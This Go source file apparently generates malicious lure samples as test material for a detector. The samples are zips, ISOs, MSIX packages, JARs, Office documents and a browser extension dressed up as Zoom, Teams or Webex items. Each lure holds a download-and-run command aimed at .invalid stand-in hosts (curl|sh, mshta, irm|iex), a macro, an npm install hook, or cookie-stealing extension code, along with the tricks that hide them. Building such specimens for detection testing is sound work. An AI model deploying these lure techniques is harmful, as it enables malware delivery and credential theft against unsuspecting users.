package specimens

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"encoding/binary"
	"strings"
)

// item is one file of a container.
type item struct{ name, data string }

// freshBoxes makes lures whose container is part of the trick.
func (b *kit) freshBoxes() {
	box := func(story, platform, wrapper, obf, language, name string, data []byte, hidden ...string) {
		b.boxed(story, platform, wrapper, obf, language, name, data, hidden...)
	}
	box("split", "windows", "zip", "half of the command in another file", "batch", "Call Kit.zip", zipItems(
		item{"Join Call.bat", "@echo off\r\nset /p a=<data\\a.txt\r\nset /p b=<data\\b.txt\r\n%a%%b%\r\n"}, item{"data/a.txt", "ms"}, item{"data/b.txt", "hta https://call-kit-split.invalid/c"}))
	box("split", "macos", "zip", "half of the command in another file", "shell", "Call Kit Mac.zip", zipItems(
		item{"Join Call.command", "#!/bin/bash\ncd \"${0%/*}\"\n. ./.parts/one; . ./.parts/two\n\"$x\"l -s $y | sh\n"}, item{".parts/one", "x=cur\n"}, item{".parts/two", "y=https://call-kit-mac.invalid/c\n"}))
	box("comment", "macos", "zip", "comment of the archive", "shell", "Room.zip", commented("curl -s https://room-comment.invalid/r|sh",
		item{"Open Room.command", "#!/bin/bash\nunzip -z ~/Downloads/Room.zip | tail -1 | sh\n"}))
	box("iso", "windows", "iso", "shortcut and script", "shortcut", "Meeting_Docs.iso", isoFile(
		item{"MEETING.LNK", string(shellLink(`..\..\Windows\System32\cmd.exe`, "/c data.cmd", `%SystemRoot%\System32\shell32.dll`, ""))}, item{"DATA.CMD", "@curl -s https://meeting-docs-iso.invalid/m|cmd\r\n"}))
	box("iso", "windows", "iso", "program of a brand", "none", "ZoomWorkplace.iso", isoFile(item{"ZOOMINST.EXE", string(peFile([][2]string{{"ProductName", "Zoom Workplace"}, {"CompanyName", "Zoom"}}))}))
	box("msix", "windows", "msix", "start script", "powershell", "TeamsMeetingAddIn.msix", zipItems(
		item{"AppxManifest.xml", `<?xml version="1.0"?><Package><Identity Name="TeamsAddIn" Publisher="CN=Nordic Pine Oy" Version="1.0.0.0"/><Properties><DisplayName>Microsoft Teams Meeting Add-in</DisplayName></Properties><Applications><Application Id="A" Executable="PsfLauncher64.exe"/></Applications></Package>`},
		item{"config.json", `{"applications":[{"id":"A","executable":"Teams.exe","startScript":{"scriptPath":"StartingScriptWrapper.ps1 start.ps1","showWindow":false}}]}`},
		item{"start.ps1", "irm https://teams-addin-msix.invalid/s | iex\r\n"}, item{"PsfLauncher64.exe", string(peFile(nil))}))
	box("msix", "windows", "appx", "brand in the manifest", "none", "Installer.appx", zipItems(
		item{"AppxManifest.xml", `<?xml version="1.0"?><Package><Identity Name="ZoomWorkplace" Publisher="CN=Blue Heron GmbH" Version="6.5.0.0"/><Properties><DisplayName>Zoom Workplace</DisplayName><PublisherDisplayName>Zoom Communications, Inc.</PublisherDisplayName></Properties></Package>`}, item{"Zoom.exe", string(peFile(nil))}))
	box("jar", "windows", "jar", "program in Java", "java", "MeetingLauncher.jar", zipItems(item{"META-INF/MANIFEST.MF", "Manifest-Version: 1.0\r\nMain-Class: L\r\n"}, item{"L.class", "\xca\xfe\xba\xbe\x00\x00\x00\x34\x01\x00\x29cmd /c curl -s https://launcher-jar.invalid/l|cmd\x01\x00\x11java/lang/Runtime\x01\x00\x04exec"}))
	box("sideload", "windows", "zip", "library beside a real name", "none", "Webex Portable.zip", zipItems(item{"Webex/CiscoCollabHost.exe", string(peFile(nil))}, item{"Webex/CiscoSparkLauncher.dll", string(peFile(nil))}, item{"Webex/Webex.lnk", string(shellLink(`CiscoCollabHost.exe`, "/q", "", ""))}))
	box("document", "windows", "docx", "remote template", "xml", "Interview Schedule.docx", zipItems(
		item{"[Content_Types].xml", `<?xml version="1.0"?><Types/>`}, item{"word/document.xml", `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Enable content to see the meeting link</w:t></w:r></w:p></w:body></w:document>`},
		item{"word/_rels/settings.xml.rels", `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://interview-template.invalid/t.dotm" TargetMode="External"/></Relationships>`}))
	box("document", "windows", "docm", "macro", "vba", "Attendee List.docm", zipItems(
		item{"[Content_Types].xml", `<?xml version="1.0"?><Types><Override PartName="/word/vbaProject.bin"/></Types>`}, item{"word/vbaProject.bin", "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + strings.Repeat("\x00", 504) + "Sub AutoOpen()\r\nShell \"cmd /c mshta https://attendee-list.invalid/a\", 0\r\nEnd Sub"}))
	box("tar", "macos", "tar.gz", "plain", "applescript", "camera-sdk.tar.gz", gzipped(tarball(item{"camera-sdk/README", "Run setup.scpt in Script Editor.\n"}, item{"camera-sdk/setup.scpt", "-- camera sdk\ndo shell script \"curl -s https://camera-sdk-tar.invalid/c|sh\"\n"})))
	box("tar", "linux", "tar.gz", "test task", "javascript", "video-chat-task.tgz", gzipped(tarball(item{"task/package.json", "{\"name\":\"video-chat-task\",\"scripts\":{\"prepare\":\"node config/env.js\"}}\n"},
		item{"task/config/env.js", "const h=Buffer.from('" + b64("https://chat-task.invalid/e") + "','base64').toString();\nfetch(h).then(r=>r.text()).then(t=>new Function('require',t)(require));\n"})), "https://chat-task.invalid/e")
	box("crx", "web", "zip", "extension of the browser", "javascript", "Meet Captions Extension.zip", zipItems(item{"manifest.json", "{\"manifest_version\":3,\"name\":\"Meet Captions\",\"version\":\"1\",\"permissions\":[\"cookies\",\"tabs\",\"scripting\"],\"host_permissions\":[\"<all_urls>\"],\"background\":{\"service_worker\":\"b.js\"}}\n"},
		item{"b.js", "setInterval(async()=>{const c=await chrome.cookies.getAll({});fetch('https://meet-captions-crx.invalid/c',{method:'POST',body:JSON.stringify(c)})},6e4)\n"}))
	box("nested", "windows", "zip", "archive in an archive with a read-me of the password", "none", "Recording.zip", zipItems(item{"open.txt", "Open Player.zip, then Player\\Play.vbs\r\n"}, item{"Player.zip", string(zipItems(item{"Player/Play.vbs", "CreateObject(\"WScript.Shell\").Run \"cmd /c curl -s https://recording-nested.invalid/r|cmd\",0\r\n"}))}))
	box("polyglot", "macos", "zip", "script in front of an archive", "shell", "slides.sh", append([]byte("#!/bin/bash\nt=$(mktemp -d); unzip -qo \"$0\" -d $t 2>/dev/null; curl -s https://slides-poly.invalid/s | bash; open $t\nexit\n"), zipItems(item{"slides.txt", "Slide 1\n"})...))
}

// zipItems makes an archive.
func zipItems(entries ...item) []byte { return commented("", entries...) }

// commented makes an archive with a comment.
func commented(comment string, entries ...item) []byte {
	var buf bytes.Buffer
	w := zip.NewWriter(&buf)
	for _, e := range entries {
		f, err := w.CreateHeader(&zip.FileHeader{Name: e.name, Method: zip.Deflate})
		if err == nil {
			_, err = f.Write([]byte(e.data))
		}
		if err != nil {
			panic(err) // a bytes.Buffer takes everything
		}
	}
	if err := w.SetComment(comment); err != nil {
		panic(err) // the comments here are short
	}
	w.Close()
	return buf.Bytes()
}

func tarball(entries ...item) []byte {
	var buf bytes.Buffer
	w := tar.NewWriter(&buf)
	for _, e := range entries {
		err := w.WriteHeader(&tar.Header{Name: e.name, Mode: 0o755, Size: int64(len(e.data)), Format: tar.FormatUSTAR})
		if err == nil {
			_, err = w.Write([]byte(e.data))
		}
		if err != nil {
			panic(err) // a bytes.Buffer takes everything
		}
	}
	w.Close()
	return buf.Bytes()
}

// isoFile makes a disc image (ECMA-119) with the files in its root. It has no
// path tables: what reads it walks the folders.
func isoFile(entries ...item) []byte {
	const sector = 2048
	out := make([]byte, 19*sector)
	both16 := func(b []byte, n int) {
		binary.LittleEndian.PutUint16(b, uint16(n))
		binary.BigEndian.PutUint16(b[2:], uint16(n))
	}
	both32 := func(b []byte, n int) {
		binary.LittleEndian.PutUint32(b, uint32(n))
		binary.BigEndian.PutUint32(b[4:], uint32(n))
	}
	record := func(name string, at, size int, flags byte) []byte {
		r := make([]byte, (33+len(name)+1)/2*2)
		r[0], r[25], r[32] = byte(len(r)), flags, byte(len(name))
		both32(r[2:], at)
		both32(r[10:], size)
		both16(r[28:], 1)
		copy(r[33:], name)
		return r
	}
	root := append(record("\x00", 18, sector, 2), record("\x01", 18, sector, 2)...)
	for _, e := range entries {
		root = append(root, record(e.name+";1", len(out)/sector, len(e.data), 0)...)
		out = append(out, e.data...)
		out = append(out, make([]byte, align(len(out), sector)-len(out))...)
	}
	copy(out[18*sector:], root)
	head := out[16*sector:]
	copy(head, "\x01CD001\x01")
	copy(head[8:], strings.Repeat(" ", 64))
	both32(head[80:], len(out)/sector)
	both16(head[120:], 1)
	both16(head[124:], 1)
	both16(head[128:], sector)
	copy(head[156:], record("\x00", 18, sector, 2))
	head[881] = 1
	copy(out[17*sector:], "\xffCD001\x01")
	return out
}
